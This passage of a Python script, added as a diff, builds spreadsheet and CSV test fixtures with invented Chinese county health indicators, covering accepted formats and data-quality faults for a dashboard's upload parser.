@@ -1,0 +1,1313 @@
+"""The files of good/ and bad/ as programs make them. Run by hand: python -m tests.uploads.make [name ...]
+
+Spreadsheets and GB18030 text cannot be read in a diff, so here stands what is in each and which program wrote it. What the
+reader should make of them is NOT made here: it is written by hand beside each file. All counties and figures are invented.
+Needs LibreOffice (soffice) for the .xls, .ods and converted files. about.tsv is written anew from what is said here.
+"""
+
+import csv
+import datetime
+import io
+import re
+import subprocess
+import sys
+import tempfile
+import zipfile
+from pathlib import Path
+
+import docx
+import openpyxl
+import xlsxwriter
+from openpyxl.comments import Comment
+from openpyxl.styles import Alignment, Font
+
+HERE = Path(__file__).parent
+FILES = {}
+LONG = ["县区", "指标", "年份", "数值", "单位"]
+INFANT, UNDER5, MATERNAL = "婴儿死亡率", "5岁以下儿童死亡率", "孕产妇死亡率"
+ELDERLY, PRESSURE, DIABETES = "65岁及以上老年人健康管理率", "高血压患者规范管理率", "2型糖尿病患者规范管理率"
+LIFE, BEDS, NURSES, LITERACY = "人均预期寿命", "每千人口医疗卫生机构床位数", "每千人口注册护士数", "居民健康素养水平"
+TEMPLATE = [
+    "县区代码",
+    "县区",
+    "指标编号",
+    "指标",
+    "单位",
+    "年份",
+    "时期",
+    "状态",
+    "数值",
+    "分子",
+    "分母",
+    "口径",
+    "来源",
+    "备注",
+]
+TARGETS = [
+    "县区代码",
+    "县区",
+    "指标编号",
+    "指标",
+    "单位",
+    "目标年",
+    "范围",
+    "比较符",
+    "目标值",
+    "目标值上限",
+    "属性",
+    "基期值",
+    "基期年",
+    "来源文件",
+    "位置",
+    "备注",
+]
+TASKS = [
+    "任务编号",
+    "县区代码",
+    "县区",
+    "任务",
+    "数量",
+    "数量单位",
+    "期限",
+    "责任股室",
+    "状态",
+    "来源文件",
+    "位置",
+    "备注",
+]
+
+
+def made(path: str, *, by: str, special: str, layout: str = "", encoding: str = ""):
+    """Registers a function without arguments that gives the file's bytes. layout, encoding: of the sheets used, joined by '+'."""
+
+    def keep(make):
+        FILES[path] = (make, by, layout, encoding, special)
+        return make
+
+    return keep
+
+
+def text(rows, *, encoding="utf-8", sep=",", end="\r\n") -> bytes:
+    out = io.StringIO(newline="")
+    csv.writer(out, delimiter=sep, lineterminator=end).writerows(rows)
+    return out.getvalue().encode(encoding)
+
+
+def book(sheets: dict, dress=None) -> bytes:
+    """openpyxl: {sheet name: rows}; dress(workbook) adds merges, formats, notes."""
+    made = openpyxl.Workbook()
+    made.remove(made.active)
+    for name, rows in sheets.items():
+        sheet = made.create_sheet(name)
+        for row in rows:
+            sheet.append(row)
+    if dress:
+        dress(made)
+    out = io.BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
+def written(draw) -> bytes:
+    """XlsxWriter: draw(workbook) writes the cells."""
+    out = io.BytesIO()
+    made = xlsxwriter.Workbook(out, {"in_memory": True})
+    draw(made)
+    made.close()
+    return out.getvalue()
+
+
+def converted(body: bytes, *, start: str, to: str) -> bytes:
+    """Through LibreOffice, as an office that has no Excel would save it. to: 'xls', 'ods:calc8' ..."""
+    with tempfile.TemporaryDirectory() as folder:
+        given = Path(folder, f"given.{start}")
+        given.write_bytes(body)
+        command = ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", to]
+        subprocess.run([*command, "--outdir", f"{folder}/out", given], check=True, capture_output=True, timeout=120)
+        return next(Path(folder, "out").iterdir()).read_bytes()
+
+
+def zipped(members: dict[str, bytes | str]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, body in members.items():
+            archive.writestr(name, body)
+    return out.getvalue()
+
+
+def members(body: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+# ---- text files
+
+
+@made(
+    "good/long_utf8.csv", by="Python csv", special="UTF-8 without BOM, long form, LF", layout="long", encoding="UTF-8"
+)
+def _():
+    rows = [
+        ["甲县", INFANT, 2023, "4.3", "‰"],
+        ["甲县", ELDERLY, 2023, "71.50", "%"],
+        ["乙县", INFANT, 2023, "5.1", "‰"],
+    ]
+    rows += [
+        ["乙县", ELDERLY, 2023, "69.8", "%"],
+        ["丙县", MATERNAL, 2024, "0", "1/10万"],
+        ["丙县", LIFE, 2024, "78.62", "岁"],
+    ]
+    return text([LONG, *rows], end="\n")
+
+
+@made(
+    "good/long_bom.csv",
+    by="WPS 'CSV UTF-8'",
+    special="UTF-8 with BOM, everyday header words",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    head = ["序号", "区县名称", "指标名称", "年度", "指标值", "计量单位", "数据来源"]
+    rows = [
+        [1, "甲县", PRESSURE, "2024年", "66.31", "%", "慢病系统"],
+        [2, "乙县", PRESSURE, "2024年", "70.02", "%", "慢病系统"],
+    ]
+    return text([head, *rows, [3, "丙县", DIABETES, "2024年", "64.9", "%", ""]], encoding="utf-8-sig")
+
+
+@made(
+    "good/long_gb18030.csv",
+    by="WPS 'CSV'",
+    special="GB18030 with a four-byte character in a note",
+    layout="long",
+    encoding="GB18030",
+)
+def _():
+    rows = [["甲县", INFANT, 2024, "3.9", "‰", "㙍乡另报"], ["乙县", INFANT, 2024, "4.4", "‰", ""]]
+    return text([[*LONG, "备注"], *rows], encoding="gb18030")
+
+
+@made("good/semicolon_gbk.csv", by="Excel, other locale", special="GBK, semicolons", layout="long", encoding="GB18030")
+def _():
+    rows = [["甲县", NURSES, 2023, "3.61", "人/千人"], ["乙县", BEDS, 2023, "6.20", "张/千人"]]
+    return text([LONG, *rows], encoding="gbk", sep=";")
+
+
+@made(
+    "good/unicode_text.txt",
+    by="Excel 'Unicode text'",
+    special="UTF-16 LE with BOM, tabs",
+    layout="long",
+    encoding="UTF-16",
+)
+def _():
+    rows = [["甲县", LITERACY, 2023, "28.15", "%"], ["丙县", LITERACY, 2023, "26.7", "%"]]
+    return b"\xff\xfe" + text([LONG, *rows], encoding="utf-16-le", sep="\t")
+
+
+@made(
+    "good/tabs.tsv",
+    by="Python csv",
+    special="TSV, years across, county in the title line",
+    layout="years_across",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["甲县卫生健康主要指标"], [], ["指标", "单位", "2021年", "2022年", "2023年"]]
+    rows += [[INFANT, "‰", "4.8", "4.6", "4.3"], [ELDERLY, "%", "65.2", "—", "71.5"], ["注：2022年未统计。"]]
+    return text(rows, sep="\t", end="\n")
+
+
+@made(
+    "good/printed_cells.csv",
+    by="Python csv",
+    special="signs and words printed with the number: 98.5% 4.3‰ 11.91/10万 12.7 (2023) １２．５ 1,234 NBSP",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["甲县", ELDERLY, 2023, "98.5%"], ["甲县", INFANT, 2023, "4.3‰"], ["甲县", MATERNAL, 2023, "11.91/10万"]]
+    rows += [
+        ["乙县", MATERNAL, 2023, "12.7 (2023)"],
+        ["乙县", LIFE, 2023, "７８．５"],
+        ["乙县", "卫生专业技术人员数", 2023, "1,234"],
+    ]
+    rows += [
+        ["丙县", ELDERLY, 2023, "\u00a070.1\u00a0"],
+        ["丙县", LIFE, 2023, "78.0岁"],
+        ["丙县", INFANT, 2023, " 4.50 ‰"],
+    ]
+    return text([LONG[:4], *rows], encoding="utf-8-sig")
+
+
+@made(
+    "good/blanks.csv",
+    by="Python csv",
+    special="the many ways to say 'no figure'; none is 0, and 0 is a figure",
+    layout="areas_across",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["2024年各县区指标"], ["指标", "单位", "甲县", "乙县", "丙县"], [INFANT, "‰", "—", "…", "4.2"]]
+    rows += [
+        [MATERNAL, "1/10万", "0", "0.0", "/"],
+        [ELDERLY, "%", "-", "", "70.5"],
+        [LIFE, "岁", "未统计", "无", "78.1"],
+    ]
+    return text(rows)
+
+
+@made("good/signs.csv", by="Python csv", special="three ways to write minus, a plus", layout="long", encoding="UTF-8")
+def _():
+    name = "公立医院次均住院费用增幅"
+    rows = [
+        ["甲县", name, 2023, "-1.2"],
+        ["乙县", name, 2023, "−3.4"],
+        ["丙县", name, 2023, "－０．５"],
+        ["甲县", name, 2022, "+2.0"],
+    ]
+    return text([LONG[:4], *rows])
+
+
+@made(
+    "good/status_period.csv",
+    by="Python csv",
+    special="half-year, quarter, 妇幼年度, 快报 年报 核定",
+    layout="long",
+    encoding="GB18030",
+)
+def _():
+    head = ["县区", "指标", "年份", "时期", "状态", "数值"]
+    rows = [["甲县", INFANT, "2024", "妇幼年度", "年报", "4.1"], ["甲县", INFANT, "2025", "上半年", "快报", "3.8"]]
+    rows += [["乙县", INFANT, "2024", "全年", "核定", "4.6"], ["乙县", INFANT, "2025", "一季度", "快报", "4.0"]]
+    return text([head, *rows, ["丙县", INFANT, "2024", "", "", "5.2"]], encoding="gb18030")
+
+
+@made(
+    "good/period_in_year.csv",
+    by="Python csv",
+    special="period and status inside the year cell and the value's header",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["甲县", MATERNAL, "2025年上半年", "12.5"],
+        ["甲县", MATERNAL, "2024妇幼年度", "11.8"],
+        ["乙县", MATERNAL, "2024年度", "13.1"],
+    ]
+    return text([["地区", "指标名称", "时间", "数值"], *rows])
+
+
+@made(
+    "good/codes12.csv",
+    by="statistics portal",
+    special="12-digit area codes, indicator ids, no names",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["900101000000", "infant_mortality", 2023, "4.3"],
+        ["900102000000", "life_expectancy", 2023, "78.41"],
+        ["900103", "infant_mortality", 2023, "5"],
+    ]
+    return text([["行政区划代码", "指标编号", "年份", "数值"], *rows])
+
+
+@made(
+    "good/full_names.csv",
+    by="statistics portal",
+    special="甲省甲市甲县, 甲 县, a city's own row",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["甲省甲市甲县", INFANT, 2023, "4.3"],
+        ["甲市乙县", INFANT, 2023, "4.9"],
+        ["丙 县", INFANT, 2023, "5.0"],
+        ["甲市", INFANT, 2023, "4.7"],
+    ]
+    return text([["行政区划", "指标", "年份", "数值"], *rows, ["丁河县", INFANT, 2023, "3.3"]])
+
+
+@made(
+    "good/quoted.csv",
+    by="Python csv",
+    special="line breaks, commas and quotes inside cells; trailing commas",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["甲县", INFANT, 2023, "4.3", "见“附表”,\n第二页", "", ""],
+        ["乙县", INFANT, 2023, "4.6", '写作"4.6"', "", ""],
+    ]
+    return text(
+        [["县区", "指标", "年份", "数值", "备注", "", ""], *rows, ["", "", "", "", "", "", ""]], encoding="utf-8-sig"
+    )
+
+
+@made("good/sep_line.csv", by="Excel with sep=", special="first line sep=;", layout="long", encoding="UTF-8")
+def _():
+    rows = [["甲县", LIFE, 2022, "77.9", "岁"], ["乙县", LIFE, 2022, "78.3", "岁"]]
+    return b"\xef\xbb\xbfsep=;\r\n" + text([LONG, *rows], sep=";")
+
+
+@made(
+    "good/unit_spellings.csv", by="Python csv", special="accepted spellings of units", layout="long", encoding="UTF-8"
+)
+def _():
+    rows = [
+        ["甲县", ELDERLY, 2023, "70.1", "％"],
+        ["甲县", MATERNAL, 2023, "11.9", "/10万"],
+        ["甲县", NURSES, 2023, "3.6", "人"],
+    ]
+    return text([LONG, *rows, ["甲县", BEDS, 2023, "6.1", "张"], ["甲县", MATERNAL, 2022, "12.0", "1/10 万"]])
+
+
+@made(
+    "good/duplicates_same.csv",
+    by="Python csv",
+    special="the same row twice with the same value",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["甲县", INFANT, 2023, "4.3", "‰"], ["乙县", INFANT, 2023, "4.9", "‰"], ["甲县", INFANT, 2023, "4.3", "‰"]]
+    return text([LONG, *rows])
+
+
+@made(
+    "good/doubtful.csv",
+    by="Python csv",
+    special="over 100 % of an estimated denominator, outside the plausible range",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["甲县", ELDERLY, 2023, "102.3", "%"],
+        ["乙县", LIFE, 2023, "96.1", "岁"],
+        ["丙县", ELDERLY, 2023, "100", "%"],
+    ]
+    return text([LONG, *rows])
+
+
+@made(
+    "good/bounds.csv",
+    by="Python csv",
+    special="a bound instead of a figure: kept, warned",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["甲县", ELDERLY, 2023, "≥70"], ["乙县", ELDERLY, 2023, "72%以上"], ["丙县", INFANT, 2023, "＜5‰"]]
+    return text([LONG[:4], *rows])
+
+
+@made(
+    "good/counts.csv",
+    by="Python csv",
+    special="numerators and denominators that give the value within its printed digits",
+    layout="long",
+    encoding="GB18030",
+)
+def _():
+    head = ["县区", "指标", "年份", "数值", "分子", "分母", "口径", "人群"]
+    rows = [
+        ["甲县", ELDERLY, 2023, "71.5", "7150", "10000", "2023版", "常住"],
+        ["乙县", INFANT, 2023, "4.26", "4", "939", "", ""],
+    ]
+    return text([head, *rows, ["丙县", MATERNAL, 2023, "98.7", "1", "1013", "", ""]], encoding="gb18030")
+
+
+# ---- Excel files
+
+
+def _years_across():
+    head = ["指标名称", "计量单位", 2021, 2022, 2023, 2024]
+    rows = [
+        [INFANT, "‰", 4.8, 4.6, 4.3, 4.1],
+        [ELDERLY, "%", 65.2, 68.4, 71.5, None],
+        [LIFE, "岁", 77.6, 77.9, 78.25, 78.4],
+    ]
+    rows += [[MATERNAL, "1/10万", 0, 22.5, 0, "…"], [BEDS, "张/千人", 6.05, 6.1, 6.22, 6.3]]
+    notes = [[], ["注：1.2024年为快报数。"], ["    2.孕产妇死亡率一例即上百。"], ["数据来源：甲县卫生健康局。"]]
+    return [["甲县卫生健康事业发展主要指标"], ["（2021—2024年）"], [], head, *rows, *notes]
+
+
+@made(
+    "good/years_across.xlsx",
+    by="openpyxl",
+    special="title over merged cells, frozen panes, notes under the table",
+    layout="years_across",
+)
+def _():
+    def dress(made):
+        sheet = made.active
+        sheet.merge_cells("A1:F1")
+        sheet.merge_cells("A2:F2")
+        sheet["A1"].font, sheet["A1"].alignment = Font(bold=True, size=16), Alignment(horizontal="center")
+        sheet.freeze_panes = "C5"
+
+    return book({"Sheet1": _years_across()}, dress)
+
+
+@made(
+    "good/areas_across.xlsx",
+    by="XlsxWriter",
+    special="counties across for one year in the title, blank first column, borders far below the table",
+    layout="areas_across",
+)
+def _():
+    def draw(made):
+        sheet, edge = made.add_worksheet("汇总"), made.add_format({"border": 1})
+        sheet.merge_range("B1:F1", "甲市2024年卫生健康指标完成情况表", made.add_format({"bold": True}))
+        for row, cells in enumerate(
+            [
+                ["指标", "单位", "甲县", "乙县", "丙县"],
+                [INFANT, "‰", 4.1, 4.6, 5.2],
+                [PRESSURE, "%", 66.31, 70.02, 64.9],
+            ]
+        ):
+            sheet.write_row(2 + row, 1, cells, edge)
+        for row in range(5, 60):
+            for column in range(1, 6):
+                sheet.write_blank(row, column, None, edge)
+
+    return written(draw)
+
+
+@made(
+    "good/indicators_across.xlsx",
+    by="openpyxl",
+    special="two-row header merged by theme, a unit line under it",
+    layout="indicators_across",
+)
+def _():
+    rows = [["2023年各县（区）妇幼与慢病主要指标"], ["县区", "妇幼健康", None, "慢病管理", None]]
+    rows += [[None, INFANT, MATERNAL, PRESSURE, DIABETES], ["单位", "‰", "1/10万", "%", "%"]]
+    rows += [["甲县", 4.3, 11.9, 65.1, 63.2], ["乙县", 4.9, 0, 69.4, "—"], ["丙县", 5.0, 23.1, 64.0, 61.8]]
+
+    def dress(made):
+        sheet = made.active
+        for area in ("A1:E1", "A2:A3", "B2:C2", "D2:E2"):
+            sheet.merge_cells(area)
+
+    return book({"2023": rows}, dress)
+
+
+@made(
+    "good/number_formats.xlsx",
+    by="XlsxWriter",
+    special="percent format (0.715 shown 71.5%), 0.00 (12.7 shown 12.70), a float that is not quite 98.1, thousands",
+    layout="long",
+)
+def _():
+    def draw(made):
+        sheet = made.add_worksheet("Sheet1")
+        share, two, thousand = (made.add_format({"num_format": f}) for f in ("0.0%", "0.00", "#,##0"))
+        sheet.write_row(0, 0, LONG[:4])
+        cells = [
+            ("甲县", ELDERLY, 2023, 0.715, share),
+            ("乙县", ELDERLY, 2023, 98.1 - 1e-14, None),
+            ("甲县", MATERNAL, 2023, 12.7, two),
+        ]
+        cells += [
+            ("丙县", ELDERLY, 2023, 0.7, share),
+            ("丙县", "卫生专业技术人员数", 2023, 1234, thousand),
+            ("乙县", LIFE, 2023, 78, made.add_format({"num_format": "0.0"})),
+        ]
+        for row, (*front, value, look) in enumerate(cells, 1):
+            sheet.write_row(row, 0, front)
+            sheet.write_number(row, 3, value, look)
+
+    return written(draw)
+
+
+@made(
+    "good/formulas.xlsx",
+    by="XlsxWriter",
+    special="formula cells with the value Excel kept (72.7272… shown 72.73)",
+    layout="long",
+)
+def _():
+    def draw(made):
+        sheet, two = made.add_worksheet("Sheet1"), made.add_format({"num_format": "0.00"})
+        sheet.write_row(0, 0, ["县区", "指标", "年份", "数值", "分子", "分母"])
+        sheet.write_row(1, 0, ["甲县", ELDERLY, 2023])
+        sheet.write_formula(1, 3, "=E2/F2*100", two, 800 / 1100 * 100)
+        sheet.write_row(1, 4, [800, 1100])
+        sheet.write_row(2, 0, ["乙县", ELDERLY, 2023, 70.5, 705, 1000])
+
+    return written(draw)
+
+
+@made(
+    "good/text_numbers.xlsx",
+    by="openpyxl",
+    special="numbers kept as text, with spaces, NBSP and full width",
+    layout="long",
+)
+def _():
+    rows = [
+        ["甲县", INFANT, "2023", "4.3"],
+        ["乙县", INFANT, 2023, " 4.9 "],
+        ["丙县", INFANT, 2023, "５．０"],
+        ["甲县", LIFE, 2023, "78.2\u00a0"],
+    ]
+    return book({"Sheet1": [LONG[:4], *rows]})
+
+
+@made(
+    "good/merged_counties.xlsx",
+    by="openpyxl",
+    special="the county's cell merged over its rows, blank rows between",
+    layout="long",
+)
+def _():
+    rows = [
+        ["县区", "指标", "年份", "数值"],
+        ["甲县", INFANT, 2023, 4.3],
+        [None, LIFE, 2023, 78.2],
+        [None, ELDERLY, 2023, 71.5],
+    ]
+    rows += [[], ["乙县", INFANT, 2023, 4.9], [None, LIFE, 2023, 77.8]]
+
+    def dress(made):
+        made.active.merge_cells("A2:A4")
+        made.active.merge_cells("A6:A7")
+
+    return book({"Sheet1": rows}, dress)
+
+
+@made(
+    "good/sheet_per_county.xlsx",
+    by="openpyxl",
+    special="one sheet a county, its name on the tab; a cover and an empty sheet",
+    layout="years_across+years_across",
+)
+def _():
+    head = ["指标", "单位", "2022年", "2023年"]
+    cover = [["甲市卫生健康统计资料"], ["（内部资料  注意保存）"], ["二〇二四年三月"]]
+    one, two = (
+        [head, [INFANT, "‰", 4.6, 4.3], [LIFE, "岁", 77.9, 78.2]],
+        [head, [INFANT, "‰", 5.2, 4.9], [LIFE, "岁", 77.1, 77.8]],
+    )
+    return book({"封面": cover, "甲县": one, "乙县": two, "Sheet3": []})
+
+
+@made(
+    "good/sheet_per_year.xlsx",
+    by="openpyxl",
+    special="one sheet a year, the year on the tab",
+    layout="indicators_across+indicators_across",
+)
+def _():
+    head = ["县区", f"{INFANT}(‰)", f"{ELDERLY}（%）", f"{LIFE}/岁"]
+    one, two = (
+        [["甲县", 4.6, 68.4, 77.9], ["乙县", 5.2, 66.0, 77.1]],
+        [["甲县", 4.3, 71.5, 78.2], ["乙县", 4.9, 69.8, 77.8]],
+    )
+    return book({"2022年": [head, *one], "2023年": [head, *two]})
+
+
+@made(
+    "good/hidden_and_notes.xlsx",
+    by="openpyxl",
+    special="a hidden sheet of last year, cell notes, a hidden row and column",
+    layout="long",
+)
+def _():
+    def dress(made):
+        made["上年"].sheet_state = "hidden"
+        made["本年"]["D2"].comment = Comment("已与疾控核对", "股室")
+        made["本年"].column_dimensions["F"].hidden = True
+
+    now, before = (
+        [LONG, ["甲县", INFANT, 2024, 4.1, "‰"], ["乙县", INFANT, 2024, 4.6, "‰"]],
+        [LONG, ["甲县", INFANT, 2023, 9.9, "‰"]],
+    )
+    return book({"本年": now, "上年": before}, dress)
+
+
+@made(
+    "good/portal_inline.xlsx",
+    by="zip by hand, as portals stream it",
+    special="inline strings, no dimension, no cell references, no styles",
+    layout="long",
+)
+def _():
+    def cell(value):
+        return (
+            f"<c><v>{value}</v></c>"
+            if isinstance(value, (int, float))
+            else f'<c t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'
+        )
+
+    rows = [LONG[:4], ["甲县", INFANT, 2023, 4.3], ["乙县", INFANT, 2023, 4.9], ["丙县", LIFE, 2023, 78.05]]
+    body = "".join(f"<row>{''.join(map(cell, row))}</row>" for row in rows)
+    return zipped(
+        _plain_book()
+        | {
+            "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'
+        }
+    )
+
+
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+
+
+def _plain_book() -> dict:
+    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
+    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
+    workbook = f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="数据导出" sheetId="1" r:id="rId1"/></sheets></workbook>'
+    return {
+        "[Content_Types].xml": types,
+        "_rels/.rels": rels.format(kind="officeDocument", target="xl/workbook.xml"),
+        "xl/workbook.xml": workbook,
+        "xl/_rels/workbook.xml.rels": rels.format(kind="worksheet", target="worksheets/sheet1.xml"),
+    }
+
+
+@made("good/wrong_dimension.xlsx", by="openpyxl, then edited", special="says its cells reach XFD1048576", layout="long")
+def _():
+    body = book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"], ["乙县", LIFE, 2023, 77.8, "岁"]]})
+    parts = members(body)
+    name = "xl/worksheets/sheet1.xml"
+    parts[name] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[name])
+    return zipped(parts)
+
+
+@made("good/far_cell.xlsx", by="openpyxl", special="one stray space in cell Z60000: a sparse sheet", layout="long")
+def _():
+    return book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}, lambda made: made.active.cell(60000, 26, " "))
+
+
+@made("good/office97.xls", by="LibreOffice, MS Excel 97", special="real .xls, years across", layout="years_across")
+def _():
+    return converted(book({"Sheet1": _years_across()}), start="xlsx", to="xls:MS Excel 97")
+
+
+@made("good/from_ods.xlsx", by="LibreOffice, from ODS", special="XLSX born as ODS", layout="long")
+def _():
+    rows = [
+        LONG,
+        ["甲县", INFANT, 2023, 4.3, "‰"],
+        ["乙县", INFANT, 2023, 4.95, "‰"],
+        ["丙县", MATERNAL, 2023, 0, "1/10万"],
+    ]
+    return converted(converted(book({"Sheet1": rows}), start="xlsx", to="ods"), start="ods", to="xlsx")
+
+
+@made(
+    "good/template.xlsx",
+    by="openpyxl",
+    special="the dashboard's own form, filled: three sheets",
+    layout="long+targets+commitments",
+)
+def _():
+    figures = [
+        ["900101", "甲县", "infant_mortality", INFANT, "‰", 2024, "全年", "年报", 4.1, None, None, None, None, None]
+    ]
+    figures += [
+        [
+            "900101",
+            "甲县",
+            "elderly_health_management",
+            ELDERLY,
+            "%",
+            2024,
+            "全年",
+            "快报",
+            72.35,
+            7235,
+            10000,
+            "2023版",
+            "老年健康系统",
+            "预计",
+        ]
+    ]
+    figures += [
+        [
+            "900101",
+            "甲县",
+            "life_expectancy",
+            LIFE,
+            "岁",
+            2024,
+            "全年",
+            None,
+            None,
+            None,
+            None,
+            None,
+            None,
+            "待省里反馈",
+        ]
+    ]
+    targets = [
+        [
+            "900101",
+            "甲县",
+            "infant_mortality",
+            INFANT,
+            "‰",
+            2025,
+            "规划",
+            "≤",
+            5,
+            None,
+            "预期性",
+            5.6,
+            2020,
+            "甲县“十四五”卫生健康规划",
+            "指标体系表 第 3 行",
+            None,
+        ]
+    ]
+    targets += [
+        [
+            "900101",
+            "甲县",
+            "beds_per_1000",
+            BEDS,
+            "张/千人",
+            2025,
+            "规划",
+            "区间",
+            6,
+            7.5,
+            "约束性",
+            None,
+            None,
+            "甲县“十四五”卫生健康规划",
+            "第三章 二、",
+            "按常住人口",
+        ]
+    ]
+    tasks = [
+        [
+            "",
+            "900101",
+            "甲县",
+            "建成县域急诊急救五大中心",
+            5,
+            "个",
+            "2025年底",
+            "医政股",
+            "进行中",
+            "甲县“十四五”卫生健康规划",
+            "第三章 三、",
+            None,
+        ]
+    ]
+    return book({"数据": [TEMPLATE, *figures], "目标": [TARGETS, *targets], "任务": [TASKS, *tasks]})
+
+
+# ---- what must be refused, or told
+
+
+@made(
+    "bad/misspelt_county.csv",
+    by="Python csv",
+    special="a county one character off: suggested, never matched",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    return text(
+        [
+            LONG,
+            ["甲县", INFANT, 2023, "4.3", "‰"],
+            ["丁可县", INFANT, 2023, "4.9", "‰"],
+            ["戊己庚县", INFANT, 2023, "5.0", "‰"],
+        ]
+    )
+
+
+@made(
+    "bad/misspelt_indicator.csv",
+    by="WPS 'CSV'",
+    special="indicator names one character off; one unknown altogether",
+    layout="long",
+    encoding="GB18030",
+)
+def _():
+    rows = [["甲县", "婴儿死亡绿", 2023, "4.3", "‰"], ["甲县", "高血压患者规范管里率", 2023, "66.1", "%"]]
+    rows += [["甲县", "全县公交车辆数", 2023, "12", "辆"], ["乙县", INFANT, 2023, "4.9", "‰"]]
+    return text([LONG, *rows], encoding="gb18030")
+
+
+@made(
+    "bad/ambiguous_county.csv",
+    by="Python csv",
+    special="a short name that two counties have",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    return text(
+        [
+            LONG,
+            ["丁河", INFANT, 2023, "4.3", "‰"],
+            ["丁河县", INFANT, 2023, "4.9", "‰"],
+            ["丁河区", INFANT, 2023, "5.3", "‰"],
+        ]
+    )
+
+
+@made(
+    "bad/ambiguous_indicator.csv",
+    by="Python csv",
+    special="a name that two indicators share but for what stands in brackets",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["甲县", "食品安全可疑聚集性事件发现率", 2023, "100", "%"],
+        ["甲县", "食品安全审核及时率(县疾控中心)", 2023, "100", "%"],
+    ]
+    return text([LONG, *rows])
+
+
+@made(
+    "bad/units.csv",
+    by="Python csv",
+    special="‰ for %, % for ‰, 万人 for 人, 1/万 for 1/10万: none is converted",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [
+        ["甲县", ELDERLY, 2023, "71.5", "‰"],
+        ["乙县", INFANT, 2023, "0.43", "%"],
+        ["丙县", INFANT, 2023, "4.3", "‰"],
+    ]
+    rows += [["甲县", "卫生专业技术人员数", 2023, "0.12", "万人"], ["甲县", MATERNAL, 2023, "1.19", "1/万"]]
+    return text([LONG, *rows])
+
+
+@made(
+    "bad/units_in_cells.xlsx",
+    by="openpyxl",
+    special="a wrong sign printed with the number; a header whose unit is wrong for its whole column",
+    layout="indicators_across",
+)
+def _():
+    head = ["县区", f"{INFANT}（%）", ELDERLY, f"{LIFE}（岁）"]
+    return book({"2023年": [head, ["甲县", 0.43, "71.5‰", 78.2], ["乙县", 0.49, "69.8%", 77.8]]})
+
+
+@made(
+    "bad/future_year.csv",
+    by="Python csv",
+    special="a figure of a year that has not ended, one of the next century",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    return text(
+        [
+            LONG,
+            ["甲县", INFANT, 2027, "4.3", "‰"],
+            ["乙县", INFANT, 2024, "4.9", "‰"],
+            ["丙县", INFANT, 2204, "4.9", "‰"],
+        ]
+    )
+
+
+@made(
+    "bad/duplicates_differ.csv",
+    by="Python csv",
+    special="one cell stated twice with different values: neither is taken",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["甲县", INFANT, 2023, "4.3", "‰"], ["乙县", INFANT, 2023, "4.9", "‰"], ["甲县", INFANT, 2023, "3.4", "‰"]]
+    return text([LONG, *rows])
+
+
+@made(
+    "bad/text_for_numbers.xlsx",
+    by="openpyxl",
+    special="words, dates, two numbers and a comma where a number belongs",
+    layout="long",
+)
+def _():
+    rows = [["甲县", INFANT, 2023, "约5左右吧"], ["甲县", LIFE, 2023, "见附件3"], ["甲县", ELDERLY, 2023, "71,5"]]
+    rows += [
+        ["乙县", INFANT, 2023, "4.3-4.9"],
+        ["乙县", LIFE, 2023, datetime.date(2023, 7, 8)],
+        ["乙县", ELDERLY, 2023, "12,34,5"],
+    ]
+    return book({"Sheet1": [LONG[:4], *rows, ["丙县", INFANT, 2023, 5.0], ["丙县", LIFE, 2023, True]]})
+
+
+@made(
+    "bad/years.csv",
+    by="Python csv",
+    special="years that are none: 24, 2023-2024, 2019/2020, 二〇二三, blank",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    years = ["24", "2023-2024", "2019/2020", "十四五期末", "", "2023"]
+    return text([LONG, *(["甲县", INFANT, year, "4.3", "‰"] for year in years)])
+
+
+@made(
+    "bad/gaps_in_rows.csv",
+    by="Python csv",
+    special="a row without county, one without indicator",
+    layout="long",
